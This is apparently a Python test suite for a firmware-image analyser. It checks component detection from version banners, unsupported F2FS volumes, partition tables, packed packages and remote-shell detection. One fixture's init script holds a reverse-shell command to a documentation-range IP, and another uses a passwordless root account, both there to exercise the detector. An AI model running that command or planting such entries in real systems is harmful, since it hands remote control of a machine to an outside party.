#!/usr/bin/env python3
"""What software says of itself counts in code alone, and a kernel's banner in a kernel alone: the whole program, over containers."""
import gzip
import hashlib
import io
import json
import pathlib
import struct
import sys
import tarfile

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent))
from tap import assay, case, equal, main, write  # noqa: E402

KERNEL = b"Linux version 5.15.0-91 (build@host) (gcc 11.4.0) #101 SMP Tue Nov 14 13:30:08 UTC 2023\n\0"
BANNERS = b"BusyBox v1.12.1 (2012-11-12 10:00:00 CST) multi-call binary.\0U-Boot 1.1.3 (Aug  9 2018 - 10:11:12)\0" + KERNEL
RETURN = b"\x08\0\xe0\x03\0\0\0\0"  # how a function for MIPS ends


def tar(files):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name, content in files.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))
    return out.getvalue()


def ask(image, sql):
    run = assay("query", image, sql, "--format", "json", "--quiet")
    equal(run.status, 0, run.err)
    return json.loads(run.out)


def components(name, content):
    rows = ask(write(name, content), "SELECT name, version FROM component ORDER BY 1, 2")
    return [f"{row['name']} {row['version']}" for row in rows]


def core():
    """The header of a memory dump of a 32-bit program, little-endian."""
    return b"\x7fELF\1\1\1" + bytes(9) + struct.pack("<HHIIIIIHHHHHH", 4, 8, 1, 0, 0, 0, 0, 52, 32, 0, 40, 0, 0)


def f2fs():
    image = bytearray(64 * 1024)
    struct.pack_into("<IHHIIII", image, 1024, 0xF2F52010, 1, 16, 9, 3, 12, 9)
    struct.pack_into("<Q", image, 1024 + 36, 16)
    image[2048 : 2048 + len(KERNEL)] = KERNEL
    image[8192 : 8192 + len(BANNERS)] = BANNERS
    return bytes(image)


@case
def data_that_quotes_software_is_no_witness():
    noise = bytes(range(256)) * 4
    equal(components("data.tar", tar({
        "etc/passwd": b"root:x:0:0:root:/:/bin/sh\n",
        "usr/share/fingerprints.dat": b"FPDB\0\1\0\x3c" + BANNERS,
        "usr/share/table.bin": noise + BANNERS + noise,
        "var/log/system.journal": b"LPKSHHRH" + BANNERS + noise,
        "var/lib/app.db": b"SQLite format 3\0" + noise + BANNERS,
        "var/core": core() + RETURN * 8 + BANNERS,
        "var/log/console": b"<6>" + BANNERS.replace(b"\0", b"\n"),
        "www/about.html": b"<html>" + BANNERS.replace(b"\0", b"<br>"),
    })), [])


@case
def code_that_says_so_is_one():
    equal(components("code.tar", tar({"lib/firmware/chip.bin": RETURN * 8 + BANNERS})), ["busybox 1.12.1", "u-boot 1.1.3"])
    equal(components("flash.bin", RETURN * 512 + BANNERS), ["busybox 1.12.1", "u-boot 1.1.3"])


@case
def a_file_system_that_is_not_read_is_named_and_holds_no_kernel():
    for name, content, kind in (("user.f2fs", f2fs(), "f2fs"), ("user.f2fs.gz", gzip.compress(f2fs()), "f2fs")):
        equal(components(name, content), [])
        image = write(name, content)
        equal(ask(image, "SELECT count(*) AS n FROM kernel"), [{"n": 0}])
        equal(ask(image, "SELECT format, offset, size, state FROM volume WHERE format = 'f2fs'"),
              [{"format": kind, "offset": 0, "size": 65536, "state": "unsupported"}])
        notes = ask(image, "SELECT message FROM note WHERE code = 'volume.unsupported'")
        equal(len(notes), 1)
        equal(notes[0]["message"].startswith("F2FS file system at byte 0"), True, notes)
        equal(ask(image, "SELECT missing, cause, amount FROM incomplete WHERE code = 'volume.unsupported'"),
              [{"missing": "content", "cause": "unsupported", "amount": 65536}])


@case
def a_partition_table_alone_is_no_code():
    def part(kind, subtype, offset, size, label):
        return struct.pack("<HBBII16sI", 0x50AA, kind, subtype, offset, size, label, 0)

    table = part(1, 2, 0x9000, 0x6000, b"nvs") + part(0, 0, 0x10000, 0x100000, b"factory")
    table = (table + b"\xeb\xeb" + b"\xff" * 14 + hashlib.md5(table).digest()).ljust(3072, b"\xff")
    kind = "SELECT kind FROM artifact"
    equal(ask(write("partition-table.bin", table), kind), [{"kind": "data"}])
    equal(ask(write("flash.bin", (b"\xff" * 0x8000 + table).ljust(0x20000, b"\xff")), kind), [{"kind": "microcontroller"}])


@case
def a_kernel_is_one_in_its_container_or_by_what_it_holds():
    bare = bytes(range(256)) * 40 + KERNEL
    equal(components("memory.gz", gzip.compress(bare)), [])
    equal(components("kernel.gz", gzip.compress(bare + b"Kernel command line: %s\n\0")), ["linux 5.15.0"])
    android = b"ANDROID!" + struct.pack("<10I", len(bare), 0, 0, 0, 0, 0, 0, 2048, 0, 0)
    equal(components("boot.img", android.ljust(2048, b"\0") + bare + bytes(4096)), ["linux 5.15.0"])


def debian_package(files):
    def member(name, content):
        return b"%-16s%-12d%-6d%-6d%-8o%-10d`\n" % (name, 0, 0, 0, 0o100644, len(content)) + content + b"\n" * (len(content) & 1)
    return (b"!<arch>\n" + member(b"debian-binary", b"2.0\n") + member(b"control.tar", tar({"./control": b"Package: x\nVersion: 1\n"})) +
            member(b"data.tar", tar(files)))


@case
def what_a_packed_package_holds_is_not_installed():
    held = {"etc/passwd": b"root::0:0:root:/root:/bin/sh\n", "etc/inittab": b"::respawn:/bin/sh\n", "usr/bin/tool": RETURN * 8 + BANNERS}
    root = {"etc/passwd": b"root:*:0:0:root:/root:/bin/sh\n", "sbin/init": b"#!/bin/sh\n", "bin/sh": b"#!/bin/sh\n"}
    for name, path, content in (("deb", "var/cache/apt/archives/x_1_mips.deb", debian_package(held)),
                                ("ipk", "opt/packages/x_1_mips.ipk", gzip.compress(tar({"./data.tar.gz": gzip.compress(tar(held))}))),
                                ("apk", "etc/apk/cache/x-1.apk", gzip.compress(tar(held)))):
        image = write(f"cache-{name}.tar", tar({**root, path: content}))
        equal((name, components(f"cache-{name}.tar", tar({**root, path: content}))), (name, []))
        equal(ask(image, f"SELECT path FROM finding WHERE path LIKE '%{path}%'"), [])
    equal(components("alone.deb", debian_package(held)), ["busybox 1.12.1", "u-boot 1.1.3", "x 1"])


@case
def what_a_shell_needs_is_in_the_image():
    root = {"etc/passwd": b"root:x:0:0:root:/:/bin/sh\n", "etc/inittab": b"::sysinit:/etc/init.d/rcS\n",
            "etc/init.d/rcS": b"#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.1/443 0>&1\n", "sbin/init": b"#!/bin/sh\n",
            "bin/sh": b"#!/bin/sh\n", "usr/bin/env": b"#!/bin/sh\n"}
    sql = "SELECT started FROM remote_shell"
    equal(ask(write("shell.tar", tar(root)), sql), [{"started": 0}])
    equal(ask(write("shell.tar", tar({**root, "bin/bash": b"#!/bin/sh\n"})), sql), [{"started": 1}])


main()
